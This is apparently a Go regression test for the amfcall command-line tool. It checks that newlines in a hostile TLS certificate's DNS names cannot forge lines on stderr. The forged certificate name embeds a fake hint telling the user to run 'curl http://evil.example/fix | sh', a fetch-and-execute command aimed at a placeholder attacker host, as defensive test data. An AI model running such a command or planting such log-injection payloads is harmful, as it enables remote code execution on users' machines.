package commands

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"io"
	"log"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/amfcall/amfcall/amf"
	"github.com/amfcall/amfcall/amf/amftest"
)

// forgedHint is what a hostile server puts in its certificate's DNS
// names: x509 takes any ASCII there, a newline included.
const forgedHint = "x\namfcall: hint: the gateway moved: run curl http://evil.example/fix | sh\nx"

// hostileTLSServer is an HTTPS server on 127.0.0.1 whose certificate is
// for names that are not "localhost", the first of them forgedHint, and
// a PEM file of that certificate for --cacert: trusted, the certificate
// fails on its names alone, where the system's verifier (Windows') would
// otherwise refuse it as from an unknown authority first.
func hostileTLSServer(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "hostile"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		DNSNames: []string{forgedHint, "a.example", "b.example"}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	srv.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	srv.Config.ErrorLog = log.New(io.Discard, "", 0) // the client refuses the certificate: said on every handshake
	srv.StartTLS()
	t.Cleanup(srv.Close)
	ca := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(ca, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600); err != nil {
		t.Fatal(err)
	}
	return srv, ca
}

// localhostURL is srv's URL with the host "localhost" (the certificate is
// checked against it), when localhost is 127.0.0.1 here.
func localhostURL(t *testing.T, srv *httptest.Server) string {
	t.Helper()
	addrs, err := net.DefaultResolver.LookupHost(context.Background(), "localhost")
	if err != nil || !slices.Contains(addrs, "127.0.0.1") {
		t.Skipf("localhost is not 127.0.0.1 here (%v, %v)", addrs, err)
	}
	return strings.Replace(srv.URL, "127.0.0.1", "localhost", 1)
}

// checkNoForgedLine wants every stderr line to be one amfcall wrote: the
// certificate's newline must not start a line of the server's.
func checkNoForgedLine(t *testing.T, stderr string) {
	t.Helper()
	for _, line := range strings.Split(strings.TrimSuffix(stderr, "\n"), "\n") {
		if strings.HasPrefix(line, "amfcall: hint: the gateway moved") || !strings.HasPrefix(line, "amfcall: ") {
			t.Errorf("a line of the server's own on stderr: %q\nstderr:\n%s", line, stderr)
		}
	}
}

// A certificate's DNS names reached stderr as the server wrote them, in
// x509's "certificate is valid for NAMES, not HOST": a name holding a
// newline printed a line that read as amfcall's own hint, in call's
// error and in snapshots --download's line for an image whose host
// has that certificate. The names are now given by the hint alone,
// escaped.
func TestCertificateNamesCannotForgeLines(t *testing.T) {
	t.Parallel()
	tlsSrv, ca := hostileTLSServer(t)
	hostile := localhostURL(t, tlsSrv)

	stdout, stderr, code := run(t, []string{"call", "--cacert", ca, "--timeout", "10s", hostile + "/gw", "svc.m"}, "", nil, false)
	if code != exitNetwork || stdout != "" {
		t.Errorf("call: exit %d, stdout %q; want 3 and nothing", code, stdout)
	}
	checkNoForgedLine(t, stderr)
	if !strings.Contains(stderr, `x\x0aamfcall: hint: the gateway moved`) || !strings.Contains(stderr, "a.example, b.example, not localhost") {
		t.Errorf("call: the certificate's names are not shown escaped:\n%s", stderr)
	}

	// A gateway whose getSnapshots names an image on that host.
	reply, err := amf.MarshalPacket(&amf.Packet{Version: 3, Messages: []amf.Message{{Target: "/1/onResult", Response: "null",
		Value: amf.AVMPlus{Value: &amf.Array{Dense: []any{hostile + "/img/", &amf.Array{Dense: []any{"jpg"}},
			&amf.Array{Dense: []any{&amf.Object{Members: []amf.Member{{Name: "name", Value: "a.jpg"}}}}}}}}}}})
	if err != nil {
		t.Fatal(err)
	}
	gw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		req, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		w.Header().Set("Content-Type", "application/x-amf")
		w.Write(amftest.RenumberReply(reply, req))
	}))
	t.Cleanup(gw.Close)
	_, stderr, code = run(t, []string{"snapshots", "--cacert", ca, "--timeout", "10s", "--download", t.TempDir(), gw.URL}, "", nil, false)
	if code != exitNetwork {
		t.Errorf("snapshots --download: exit %d, want 3\n%s", code, stderr)
	}
	checkNoForgedLine(t, stderr)
	if !strings.Contains(stderr, "a.jpg: tls: the certificate is not valid for localhost") {
		t.Errorf("snapshots --download: the failed image is not told:\n%s", stderr)
	}
}
